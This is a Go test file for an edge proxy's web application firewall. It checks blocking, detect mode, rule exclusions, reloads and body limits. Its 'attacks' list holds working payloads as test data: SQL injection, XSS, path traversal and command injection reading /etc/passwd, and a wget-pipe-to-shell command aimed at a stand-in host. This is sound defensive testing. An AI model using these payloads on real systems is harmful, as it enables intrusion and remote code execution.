package app

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rampart-edge/rampart/internal/edge"
)

// bodyOrigin is a real origin on 127.0.0.1 that records the size and hash
// of the last request body it received.
type bodyOrigin struct {
	*origin
	mu      sync.Mutex
	lastLen int
	lastSum [32]byte
}

func newBodyOrigin(t *testing.T) *bodyOrigin {
	t.Helper()
	o := &bodyOrigin{origin: &origin{name: "B"}}
	o.origin.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.hits.Add(1)
		b, err := io.ReadAll(r.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		o.mu.Lock()
		o.lastLen, o.lastSum = len(b), sha256.Sum256(b)
		o.mu.Unlock()
		fmt.Fprintf(w, "ok %d", len(b))
	}))
	t.Cleanup(o.Close)
	return o
}

func (o *bodyOrigin) last() (int, [32]byte) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.lastLen, o.lastSum
}

// wafReq is one request sent through the edge.
type wafReq struct {
	Name        string            `json:"name"`
	Method      string            `json:"method"`
	Path        string            `json:"path"`
	Headers     map[string]string `json:"headers"`
	ContentType string            `json:"content_type"`
	Body        string            `json:"body"`
	// KnownFP, in the benign corpus, explains a false positive of the
	// Core Rule Set itself at paranoia 1, with the exclusion that fixes it.
	KnownFP string `json:"known_fp"`
}

var wafClient = &http.Client{Timeout: 20 * time.Second}

// send sends q to host through the app and returns the status, the
// request id and the body.
func send(t *testing.T, r *running, host string, q wafReq) (int, string, string) {
	t.Helper()
	method := q.Method
	if method == "" {
		method = "GET"
	}
	var body io.Reader
	if q.Body != "" {
		body = strings.NewReader(q.Body)
	}
	req, err := http.NewRequest(method, r.url(q.Path), body)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")
	req.Header.Set("Accept", "*/*")
	if q.ContentType != "" {
		req.Header.Set("Content-Type", q.ContentType)
	}
	for k, v := range q.Headers {
		req.Header.Set(k, v)
	}
	resp, err := wafClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header.Get(edge.RequestIDHeader), string(b)
}

// logLine returns the app's log line that names request id and contains
// want, or "".
func logLine(r *running, id, want string) string {
	for _, l := range strings.Split(r.logs.String(), "\n") {
		if strings.Contains(l, `"request_id":"`+id+`"`) && strings.Contains(l, want) {
			return l
		}
	}
	return ""
}

// waitLogLine polls for a log line: the WAF logs before it answers, but
// give the logger a moment anyway.
func waitLogLine(r *running, id, want string) string {
	for i := 0; i < 50; i++ {
		if l := logLine(r, id, want); l != "" {
			return l
		}
		time.Sleep(20 * time.Millisecond)
	}
	return ""
}

// attacks are real attack requests of the kinds issue 7 names.
var attacks = []wafReq{
	{Name: "sqli in query", Path: "/items?id=1%27%20OR%20%271%27%3D%271"},
	{Name: "sqli union in query", Path: "/items?id=-1+UNION+ALL+SELECT+NULL,concat(username,0x3a,password)+FROM+users--+-"},
	{Name: "sqli in form body", Method: "POST", Path: "/login", ContentType: "application/x-www-form-urlencoded", Body: "user=admin%27+--+&pass=%27+or+%271%27%3D%271"},
	{Name: "xss in query", Path: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"},
	{Name: "xss in form body", Method: "POST", Path: "/comment", ContentType: "application/x-www-form-urlencoded", Body: "text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"},
	{Name: "path traversal", Path: "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"},
	{Name: "remote command execution", Path: "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"},
	{Name: "rce in json body", Method: "POST", Path: "/api/run", ContentType: "application/json", Body: `{"cmd":"; /bin/bash -c 'wget http://evil.example/x.sh | sh'"}`},
	{Name: "scanner sqlmap", Path: "/", Headers: map[string]string{"User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)"}},
	{Name: "scanner nikto", Path: "/", Headers: map[string]string{"User-Agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"}},
}

func wafConfigYAML(originURL, blockExtra string) string {
	return fmt.Sprintf(`
log: {format: "off"}
zones:
  - host: block.test
    origins: [%[1]s]
    waf:
      mode: block
      paranoia: 1
%[2]s
  - host: detect.test
    origins: [%[1]s]
    waf: {mode: detect, paranoia: 1}
  - host: off.test
    origins: [%[1]s]
`, originURL, blockExtra)
}

func TestWAFAttacksBlockedAndDetected(t *testing.T) {
	o := newBodyOrigin(t)
	r := start(t, parseConfig(t, wafConfigYAML(o.URL, "")))
	for _, q := range attacks {
		t.Run(q.Name, func(t *testing.T) {
			before := o.hits.Load()
			code, id, body := send(t, r, "block.test", q)
			if code != http.StatusForbidden {
				t.Fatalf("block mode: status %d, want 403 (body %q)", code, body)
			}
			if id == "" || !strings.Contains(body, "request id: "+id) {
				t.Errorf("403 body lacks the request id %q: %q", id, body)
			}
			if o.hits.Load() != before {
				t.Error("a blocked request reached the origin")
			}
			if l := waitLogLine(r, id, "waf blocked"); l == "" || !strings.Contains(l, `"anomaly_score"`) || !strings.Contains(l, `"rules":[`) {
				t.Errorf("no block log line with rules and score for %s: %q", id, l)
			}

			code, id, body = send(t, r, "detect.test", q)
			if code != http.StatusOK || !strings.HasPrefix(body, "ok ") {
				t.Fatalf("detect mode: status %d body %q, want the origin's 200", code, body)
			}
			if l := waitLogLine(r, id, "waf detected"); l == "" {
				t.Errorf("detect mode: no log line for request %s", id)
			}

			if code, _, _ = send(t, r, "off.test", q); code != http.StatusOK {
				t.Errorf("waf off: status %d, want 200", code)
			}
		})
	}
	// Metrics by zone and rule id.
	var buf bytes.Buffer
	mfs, err := r.Metrics().Gatherer().Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, mf := range mfs {
		fmt.Fprintln(&buf, mf.String())
	}
	for _, want := range []string{"rampart_waf_requests_total", `value:"block.test"`, `value:"blocked"`, `value:"detected"`, "rampart_waf_rule_matches_total", `value:"913100"`} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("metrics lack %s", want)
		}
	}
}

func TestWAFNoFalsePositivesAtParanoia1(t *testing.T) {
	f, err := os.Open("testdata/waf/benign.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var reqs []wafReq
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for line := 1; sc.Scan(); line++ {
		var q wafReq
		if err := json.Unmarshal(sc.Bytes(), &q); err != nil {
			t.Fatalf("testdata/waf/benign.jsonl line %d: %v", line, err)
		}
		reqs = append(reqs, q)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(reqs) < 20 {
		t.Fatalf("only %d benign requests in testdata", len(reqs))
	}
	o := newBodyOrigin(t)
	r := start(t, parseConfig(t, wafConfigYAML(o.URL, "")+fmt.Sprintf(`
  - host: fp.test
    origins: [%s]
    waf:
      mode: block
      exclusions: [{rule: 932370, path: /graphql}]
`, o.URL)))
	for _, q := range reqs {
		t.Run(q.Name, func(t *testing.T) {
			code, id, body := send(t, r, "block.test", q)
			if q.KnownFP != "" {
				// Asserted so that a CRS update fixing it is noticed.
				if code != http.StatusForbidden {
					t.Errorf("known false positive no longer blocked (status %d): update testdata: %s", code, q.KnownFP)
				}
				if code, _, _ := send(t, r, "fp.test", q); code != http.StatusOK {
					t.Errorf("known false positive still blocked with its exclusion: status %d", code)
				}
				return
			}
			if code != http.StatusOK {
				t.Fatalf("benign request got %d (%q); log: %s", code, body, logLine(r, id, "waf"))
			}
			if n, sum := o.last(); q.Body != "" && (n != len(q.Body) || sum != sha256.Sum256([]byte(q.Body))) {
				t.Errorf("origin got a %d-byte body, want the %d bytes sent", n, len(q.Body))
			}
		})
	}
}

// ruleIDs returns the rule ids of the WAF log line of request id, without
// the anomaly evaluation rules (949xxx), which must never be excluded.
func ruleIDs(t *testing.T, r *running, id string) []string {
	t.Helper()
	l := waitLogLine(r, id, "waf detected")
	if l == "" {
		t.Fatalf("no detect log line for %s", id)
	}
	var rec struct {
		Rules []string `json:"rules"`
	}
	if err := json.Unmarshal([]byte(l), &rec); err != nil {
		t.Fatalf("log line %q: %v", l, err)
	}
	var ids []string
	for _, s := range rec.Rules {
		if !strings.HasPrefix(s, "949") {
			ids = append(ids, s)
		}
	}
	if len(ids) == 0 {
		t.Fatalf("no rule ids in %q", l)
	}
	return ids
}

func TestWAFExclusionsAndReload(t *testing.T) {
	o := newBodyOrigin(t)
	r := start(t, parseConfig(t, wafConfigYAML(o.URL, "")))
	sqlmap := attacks[8]
	traversal := wafReq{Path: "/files/get?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd"}
	traversalElsewhere := wafReq{Path: "/other/get?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd"}
	xssComment := wafReq{Method: "POST", Path: "/post", ContentType: "application/x-www-form-urlencoded", Body: "title=Hi&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}
	xssTitle := wafReq{Method: "POST", Path: "/post", ContentType: "application/x-www-form-urlencoded", Body: "title=%3Cscript%3Ealert(1)%3C%2Fscript%3E&comment=Hi"}

	// Learn which rules fire from detect mode's log, as an operator would.
	_, id, _ := send(t, r, "detect.test", sqlmap)
	uaRules := ruleIDs(t, r, id)
	_, id, _ = send(t, r, "detect.test", traversal)
	travRules := ruleIDs(t, r, id)

	for _, q := range []wafReq{sqlmap, traversal, traversalElsewhere, xssComment, xssTitle} {
		if code, _, _ := send(t, r, "block.test", q); code != http.StatusForbidden {
			t.Fatalf("before exclusions: %s %s got %d, want 403", q.Method, q.Path, code)
		}
	}

	extra := fmt.Sprintf(`      exclusions:
        - rules: [%s]
        - rules: [%s]
          path: /files/
        - args: [comment]`, strings.Join(uaRules, ", "), strings.Join(travRules, ", "))
	if err := r.Reload(parseConfig(t, wafConfigYAML(o.URL, extra))); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		q    wafReq
		want int
	}{
		{"excluded by rule id", sqlmap, 200},
		{"excluded by path", traversal, 200},
		{"other path still blocked", traversalElsewhere, 403},
		{"excluded by arg", xssComment, 200},
		{"other arg still blocked", xssTitle, 403},
		{"other attacks still blocked", attacks[0], 403},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if code, id, body := send(t, r, "block.test", tt.q); code != tt.want {
				t.Errorf("status %d, want %d (%q) log %s", code, tt.want, body, logLine(r, id, "waf"))
			}
		})
	}

	// A reload that changes only the mode: block.test now detects.
	detectCfg := strings.Replace(wafConfigYAML(o.URL, extra), "mode: block", "mode: detect", 1)
	if err := r.Reload(parseConfig(t, detectCfg)); err != nil {
		t.Fatal(err)
	}
	code, id, _ := send(t, r, "block.test", attacks[0])
	if code != http.StatusOK {
		t.Fatalf("after reload to detect: status %d, want 200", code)
	}
	if waitLogLine(r, id, "waf detected") == "" {
		t.Error("after reload to detect: no detect log line")
	}
	// And back to block.
	if err := r.Reload(parseConfig(t, wafConfigYAML(o.URL, extra))); err != nil {
		t.Fatal(err)
	}
	if code, _, _ := send(t, r, "block.test", attacks[0]); code != http.StatusForbidden {
		t.Errorf("after reload back to block: status %d, want 403", code)
	}
	// Detect and block with equal rules share one compiled set: the two
	// reloads after the exclusions compiled nothing new.
	if n := strings.Count(r.logs.String(), "waf rules compiled"); n != 2 {
		t.Errorf("%d rule sets compiled, want 2 (the initial one and the one with exclusions)", n)
	}
}

func TestWAFReloadUnderLoadDropsNothing(t *testing.T) {
	o := newBodyOrigin(t)
	r := start(t, parseConfig(t, wafConfigYAML(o.URL, "")))
	var failures, total atomic.Int64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				req, _ := http.NewRequest("GET", r.url("/page?x=1"), nil)
				req.Host = "block.test"
				resp, err := wafClient.Do(req)
				total.Add(1)
				if err != nil {
					failures.Add(1)
					continue
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 {
					failures.Add(1)
				}
			}
		}()
	}
	for _, pl := range []int{2, 1} {
		cfg := strings.Replace(wafConfigYAML(o.URL, ""), "paranoia: 1\n", fmt.Sprintf("paranoia: %d\n", pl), 1)
		if err := r.Reload(parseConfig(t, cfg)); err != nil {
			t.Fatal(err)
		}
	}
	time.Sleep(100 * time.Millisecond)
	close(stop)
	wg.Wait()
	if total.Load() == 0 || failures.Load() != 0 {
		t.Errorf("%d of %d requests failed across reloads", failures.Load(), total.Load())
	}
}

func TestWAFBodyLimitThroughEdge(t *testing.T) {
	o := newBodyOrigin(t)
	cfg := parseConfig(t, wafConfigYAML(o.URL, "      body_limit: 2048\n    max_body_size: 4194304"))
	r := start(t, cfg)
	attack := "&q=1%27+UNION+SELECT+password+FROM+users--"
	tests := []struct {
		name string
		body string
		want int
	}{
		{"attack inside the inspected part", "pad=" + strings.Repeat("a", 100) + attack, 403},
		{"attack past the limit streams uninspected", "pad=" + strings.Repeat("a", 8192) + attack, 200},
		{"3 MiB body streams whole to the origin", "pad=" + strings.Repeat("b", 3<<20), 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			q := wafReq{Method: "POST", Path: "/upload", ContentType: "application/x-www-form-urlencoded", Body: tt.body}
			code, _, body := send(t, r, "block.test", q)
			if code != tt.want {
				t.Fatalf("status %d, want %d (%q)", code, tt.want, body)
			}
			if tt.want == 200 {
				if n, sum := o.last(); n != len(tt.body) || sum != sha256.Sum256([]byte(tt.body)) {
					t.Errorf("origin got %d bytes, want the %d sent, unchanged", n, len(tt.body))
				}
			}
		})
	}
	// Over the zone's max_body_size the edge answers 413 before the WAF.
	q := wafReq{Method: "POST", Path: "/upload", ContentType: "application/octet-stream", Body: strings.Repeat("c", 5<<20)}
	if code, _, _ := send(t, r, "block.test", q); code != http.StatusRequestEntityTooLarge {
		t.Errorf("over max_body_size: status %d, want 413", code)
	}
}
